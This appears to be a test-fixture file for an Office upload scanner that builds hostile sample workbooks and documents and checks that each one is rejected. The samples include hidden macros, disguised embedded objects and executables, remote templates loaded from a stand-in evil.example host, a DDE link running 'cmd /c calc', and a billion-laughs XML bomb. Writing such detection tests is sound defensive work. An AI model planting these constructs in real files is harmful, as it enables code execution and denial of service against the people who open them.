import { madeOffice, one, type MadeOffice } from './made-office.js';
import type { RawPart } from './raw-zip.js';
import { sample, type SampleFile } from './sample-file.js';

const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const macros = /holds macros/;
const objects = /holds an object/;
const elsewhere = /loads something from elsewhere/;
const external = ' TargetMode="External"';

const type = (part: string, contentType: string) =>
  `<Override PartName="/${part}" ContentType="application/${contentType}"/>`;

function made(what: string, outcome: RegExp, office: MadeOffice): SampleFile {
  const { kind = 'xlsx' } = office;
  return sample(what, `a.${kind}`, outcome, () => madeOffice(office));
}

const part = (name: string, content: string | Buffer = 'x'): { parts: RawPart[] } => ({
  parts: [{ name, content }],
});

const macroWorkbook = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
const macroDocument = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>';

/** Office files that are whole and true, and run, load or carry something. */
export const hostileDocuments: SampleFile[] = [
  made('a macro workbook called .xlsx', macros, {
    mainType: macroWorkbook,
    types: type('xl/vbaProject.bin', 'vnd.ms-office.vbaProject'),
    relations: one('rId8', 'vbaProject', 'vbaProject.bin'),
    ...part('xl/vbaProject.bin', ole),
  }),
  made('a macro workbook without its macros', macros, { mainType: macroWorkbook }),
  sample('a macro workbook under its own name', 'a.xlsm', /not accepted \(\.xlsm\)/, () =>
    madeOffice({ mainType: macroWorkbook }),
  ),
  made('a macro document called .docx', macros, { kind: 'docx', mainType: macroDocument }),
  made('macros in a document', macros, { kind: 'docx', ...part('word/vbaProject.bin', ole) }),
  made('macros in capitals', macros, part('XL/VBAPROJECT.BIN', ole)),
  made('macros under another name', macros, {
    types: type('xl/media/i.png', 'vnd.ms-office.vbaProject'),
    ...part('xl/media/i.png'),
  }),
  made('macros by a relation only', macros, {
    relations:
      '<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/i.png"/>',
  }),
  made('an old macro sheet', macros, part('xl/macrosheets/sheet1.xml', '<a/>')),
  made('a macro type spelt in numbers', /unusual way/, {
    types: type('xl/media/i.png', 'vnd.ms-office.vba&#80;roject'),
  }),
  made('an embedded object', objects, {
    kind: 'docx',
    ...part('word/embeddings/oleObject1.bin', ole),
  }),
  made('an embedded workbook', objects, {
    kind: 'docx',
    ...part('word/embeddings/Sheet1.xlsx', madeOffice()),
  }),
  made('an object under the name of a picture', /an embedded object/, part('xl/media/i.png', ole)),
  made('a program under the name of a picture', /a program/, part('xl/media/i.png', 'MZ\x90\0')),
  made('a PDF under the name of a picture', /holds a PDF/, part('xl/media/i.png', '%PDF-1.4')),
  made('a control', objects, part('xl/activeX/activeX1.xml', '<a/>')),
  made('an object by its type', objects, {
    types: type('xl/o.bin', 'vnd.openxmlformats-officedocument.oleObject'),
  }),
  made('a chunk of another format', objects, {
    kind: 'docx',
    relations: one('rId8', 'aFChunk', 'chunk.mht'),
  }),
  made('a template from elsewhere', elsewhere, {
    kind: 'docx',
    relations: one('rId8', 'attachedTemplate', 'https://evil.example/t.dotm', external),
  }),
  made('a template from a share', elsewhere, {
    kind: 'docx',
    relations: one('rId8', 'attachedTemplate', 'file://///evil.example/t.dotm', external),
  }),
  made('a template behind a quoted bracket', elsewhere, {
    kind: 'docx',
    relations: one('rId8', 'attachedTemplate', 'https://evil.example/?a>b', external),
  }),
  made('a picture from elsewhere', elsewhere, {
    relations: one('rId8', 'image', 'https://evil.example/pixel.png', external),
  }),
  made('an object from elsewhere', objects, {
    relations: one('rId8', 'oleObject', 'file:///c:/x', external),
  }),
  made('a relation spelt in numbers', /unusual way/, {
    relations: one('rId8', 'image', 'https://evil.example/', ' TargetMode="Ext&#101;rnal"'),
  }),
  made('values from another program', /another program/, {
    ...part(
      'xl/externalLinks/externalLink1.xml',
      '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    ),
  }),
  made('a billion laughs inside', /DOCTYPE/, part('xl/sharedStrings.xml', laughs)),
  made('a billion laughs inside, in UTF-16', /DOCTYPE/, {
    ...part('xl/sharedStrings.xml', Buffer.from(`\uFEFF${laughs}`, 'utf16le')),
  }),
  made('a template called document', /not a Word document/, {
    kind: 'docx',
    mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
  }),
  sample('a protected workbook', 'a.xlsx', /protected by a password/, () => ole),
  sample('an old workbook', 'a.xls', /not accepted \(\.xls\)/, () => ole),
];
